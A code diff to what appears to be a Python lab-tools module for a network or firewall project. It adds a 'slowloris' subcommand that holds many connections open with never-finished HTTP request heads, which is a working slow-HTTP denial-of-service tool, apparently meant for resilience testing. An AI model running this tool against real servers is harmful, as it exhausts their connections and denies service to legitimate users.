@@ -9,6 +9,8 @@
   half-closes, prints the sink's reply and its own checksum.
 - ``hold HOST PORT COUNT``: opens COUNT connections, checks each echoes,
   keeps them open until stdin closes; prints ``open N`` / ``failed N``.
+- ``slowloris HOST PORT COUNT [--source ADDR]``: connections that dribble a request
+  head one header line at a time and never end it, until stdin closes.
 """
 
 from __future__ import annotations
@@ -147,6 +149,39 @@ def _hold(host: str, port: int, count: int, source: str | None) -> None:
     print(f"alive {alive}", flush=True)
 
 
+async def _slowloris(host: str, port: int, count: int, source: str | None, every: float) -> None:
+    """``count`` connections that each send a request head one header line every
+    ``every`` seconds and never finish it, until stdin closes."""
+    import resource
+
+    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    writers = []
+    refused = 0
+    for _ in range(count):
+        try:
+            _r, w = await asyncio.wait_for(
+                asyncio.open_connection(host, port, local_addr=(source, 0) if source else None),
+                5,
+            )
+            w.write(b"GET / HTTP/1.1\r\nHost: slow.example\r\n")
+            writers.append(w)
+        except (TimeoutError, OSError):
+            refused += 1
+    print(f"open {len(writers)} refused {refused}", flush=True)
+    loop = asyncio.get_running_loop()
+    done = loop.run_in_executor(None, sys.stdin.read)
+    n = 0
+    while not done.done():
+        for w in writers:
+            if not w.is_closing():
+                w.write(f"X-Slow-{n}: a\r\n".encode())
+        n += 1
+        await asyncio.sleep(every)
+    alive = sum(1 for w in writers if not w.is_closing())
+    print(f"still open {alive}", flush=True)
+
+
 def main(argv: list[str] | None = None) -> None:
     p = argparse.ArgumentParser(prog="zfw.lab.tools")
     sub = p.add_subparsers(dest="tool", required=True)
@@ -165,6 +200,12 @@ def main(argv: list[str] | None = None) -> None:
     hd.add_argument("port", type=int)
     hd.add_argument("count", type=int)
     hd.add_argument("--source")
+    sl = sub.add_parser("slowloris")
+    sl.add_argument("host")
+    sl.add_argument("port", type=int)
+    sl.add_argument("count", type=int)
+    sl.add_argument("--source")
+    sl.add_argument("--every", type=float, default=0.5)
     a = p.parse_args(argv)
     if a.tool == "whoami":
         asyncio.run(_serve(_whoami, a.port))
@@ -176,6 +217,8 @@ def main(argv: list[str] | None = None) -> None:
         _send(a.host, a.port, a.bytes, a.source)
     elif a.tool == "hold":
         _hold(a.host, a.port, a.count, a.source)
+    elif a.tool == "slowloris":
+        asyncio.run(_slowloris(a.host, a.port, a.count, a.source, a.every))
 
 
 if __name__ == "__main__":
